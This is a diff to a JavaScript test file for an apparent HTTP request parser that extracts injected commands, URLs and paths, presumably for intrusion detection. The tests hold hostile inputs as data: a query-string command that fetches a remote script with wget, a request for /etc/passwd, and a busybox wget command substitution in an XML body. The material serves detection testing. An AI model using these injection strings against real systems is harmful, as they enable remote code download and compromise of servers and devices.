@@ -41,6 +41,15 @@ test('a command in a query string', () => {
   );
 });
 
+test('requests in lower case, and behind many others', () => {
+  const hidden = 'cd /tmp; wget http://198.51.100.9/a.sh';
+  const target = `/?cmd=${encodeURIComponent(hidden)}`;
+  assert.deepEqual(facts(get(target).replace('GET', 'get')).command, facts(get(target)).command);
+  assert.deepEqual(facts(`${get('/').repeat(300)}${get(target)}`).url, ['http://198.51.100.9/a.sh']);
+  // What a shell was told is no request of HTTP's first version.
+  assert.equal(facts('get /etc/passwd\r\n').path, undefined);
+});
+
 test('a command in XML, with its namespaces left out', () => {
   const body =
     '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><NewStatusURL>$(/bin/busybox wget -g ' +
